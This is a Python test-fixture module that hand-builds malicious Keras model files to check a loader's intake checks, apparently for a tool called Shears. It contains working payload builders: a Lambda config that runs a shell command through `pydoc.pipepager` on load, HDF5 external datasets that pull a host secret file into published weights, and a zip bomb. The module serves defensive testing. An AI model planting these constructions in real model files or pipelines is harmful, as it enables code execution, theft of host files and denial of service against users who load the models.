"""Hostile model files, made by hand (zip, JSON, h5py; no TensorFlow): each reproduces an attack of issue 18.

The configs follow what tf_keras (Keras 2) and Keras 3 write, so without Shears' intake checks the loaders
would take them: `pydoc.pipepager` runs a shell command while a Keras 2 file loads, and an HDF5 dataset with
external storage reads a host file into a weight.
"""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import h5py
import numpy as np

K2_META = {"keras_version": "2.21.0", "date_saved": "2026-12-02@00:00:00"}
K3_META = {"keras_version": "3.15.1", "date_saved": "2026-12-02@00:00:00"}


def k2_layer(cls: str, name: str, **config: Any) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": cls, "config": {"name": name, "trainable": True,
                                                                    "dtype": "float32", **config},
            "registered_name": None}


def k2_sequential(*layers: dict[str, Any], inputs: int = 4) -> dict[str, Any]:
    first = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "config": {
        "batch_input_shape": [None, inputs], "dtype": "float32", "sparse": False, "ragged": False, "name": "input_1",
        "optional": False}}
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential",
                                                                      "layers": [first, *layers]},
            "registered_name": None}


def dense(name: str = "dense", units: int = 3) -> dict[str, Any]:
    return k2_layer("Dense", name, units=units, activation="linear", use_bias=True,
                    kernel_initializer={"module": "keras.initializers", "class_name": "GlorotUniform",
                                        "config": {"seed": None}, "registered_name": None})


def pipepager_lambda(command: str) -> dict[str, Any]:
    """The Keras 2 attack: a Lambda whose function is a named module function (tf_keras' safe mode allows it)."""
    return k2_layer("Lambda", "lam", function={"module": "pydoc", "class_name": "function", "config": "pipepager",
                                               "registered_name": "function"},
                    function_type="function", module="pydoc", output_shape=None, output_shape_type="raw",
                    output_shape_module=None, arguments={"cmd": command})


def pipepager_lambda_legacy(command: str) -> dict[str, Any]:
    """The same attack as tf_keras' legacy `.h5` format writes a Lambda: the function as module + name."""
    return {"class_name": "Lambda", "config": {"name": "lam", "trainable": True, "dtype": "float32",
                                               "function": "pipepager", "function_type": "function", "module": "pydoc",
                                               "output_shape": None, "output_shape_type": "raw",
                                               "output_shape_module": None, "arguments": {"cmd": command}}}


def weights_h5(build: Any = None) -> bytes:
    """A small HDF5 weights file; `build(f)` adds to it (an external dataset, a link...)."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_dataset("layers/dense/vars/0", data=np.zeros((4, 3), np.float32))
        f.create_dataset("layers/dense/vars/1", data=np.zeros(3, np.float32))
        if build is not None:
            build(f)
    return buf.getvalue()


def keras_zip(config: Any, meta: dict[str, Any] | None = None, weights: bytes | None = None,
              extra: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps(meta or K2_META))
        z.writestr("config.json", config if isinstance(config, str | bytes) else json.dumps(config))
        z.writestr("model.weights.h5", weights if weights is not None else weights_h5())
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def legacy_h5(config: dict[str, Any], build: Any = None, version: str = "2.21.0") -> bytes:
    """An `.h5` model as tf_keras' legacy format writes it: model_config as an attribute, weights by layer."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = version
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        g = f.create_group("model_weights")
        g.create_dataset("dense/dense/kernel:0", data=np.zeros((4, 3), np.float32))
        if build is not None:
            build(f)
    return buf.getvalue()


def external(path: str, shape: tuple[int, ...] = (3,), dtype: str = "float32") -> Any:
    """A dataset whose bytes live in a host file (HDF5 external storage)."""

    def build(f: h5py.File) -> None:
        f.create_dataset("layers/side/vars/1", shape=shape, dtype=dtype, external=[(path, 0, h5py.h5f.UNLIMITED)])

    return build


def zip_bomb(inflated_bytes: int) -> bytes:
    """A `.keras` whose config.json inflates to `inflated_bytes` of spaces (a few MB on disk), streamed out."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", json.dumps(K2_META))
        info = zipfile.ZipInfo("config.json")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            block = b" " * (8 << 20)
            left = inflated_bytes
            while left > 0:
                fh.write(block[: min(left, len(block))])
                left -= len(block)
        z.writestr("model.weights.h5", weights_h5())
    return buf.getvalue()


def side_branch_files(secret: str, nbytes: int = 12) -> dict[str, bytes]:
    """A trained tf_keras digits classifier whose side branch feeds a zero-weight layer (no output changes), with
    the side branch's bias stored in `secret` (HDF5 external storage), as `.h5` and as `.keras`. Needs TensorFlow.

    Loaded by tf_keras as it is, the first `nbytes` of the host file become that bias: the run passes and
    publishes them inside models/baseline.h5.
    """
    import tempfile
    from pathlib import Path

    from shears.keras.tfcompat import keras, set_seed
    from sklearn.datasets import load_digits

    set_seed(0)
    d = load_digits()
    x, y = (d.images / 16.0).astype(np.float32), d.target.astype(np.int64)
    inp = keras.Input(x.shape[1:])
    flat = keras.layers.Flatten()(inp)
    logits = keras.layers.Dense(10, name="logits")(keras.layers.Dense(32, activation="relu", name="hidden")(flat))
    side = keras.layers.Dense(nbytes // 4, name="side")(flat)
    zero = keras.layers.Dense(10, name="zero", kernel_initializer="zeros", trainable=False)(side)
    model = keras.Model(inp, keras.layers.Add(name="join")([logits, zero]))
    model.compile("adam", keras.losses.SparseCategoricalCrossentropy(from_logits=True))
    model.fit(x, y, epochs=8, batch_size=32, verbose=0)
    model = keras.Model(model.inputs, model.outputs)  # the same layers, without the optimizer
    out: dict[str, bytes] = {}
    with tempfile.TemporaryDirectory() as tmp:
        for fmt in ("h5", "keras"):
            path = Path(tmp) / f"side.{fmt}"
            model.save(path)
            out[fmt] = path.read_bytes()

    def swap(f: h5py.File) -> None:  # the one dataset of the bias' shape becomes external
        found: list[str] = []
        f.visititems(lambda name, obj: found.append(name) if isinstance(obj, h5py.Dataset)
                     and obj.shape == (nbytes // 4,) else None)
        assert len(found) == 1, found
        del f[found[0]]
        f.create_dataset(found[0], shape=(nbytes // 4,), dtype="float32", external=[(secret, 0, nbytes)])

    buf = io.BytesIO(out["h5"])
    with h5py.File(buf, "r+") as f:
        swap(f)
    out["h5"] = buf.getvalue()
    src = zipfile.ZipFile(io.BytesIO(out["keras"]))
    weights = io.BytesIO(src.read("model.weights.h5"))
    with h5py.File(weights, "r+") as f:
        swap(f)
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(rebuilt, "w", zipfile.ZIP_DEFLATED) as z:
        for name in src.namelist():
            z.writestr(name, weights.getvalue() if name == "model.weights.h5" else src.read(name))
    out["keras"] = rebuilt.getvalue()
    return out
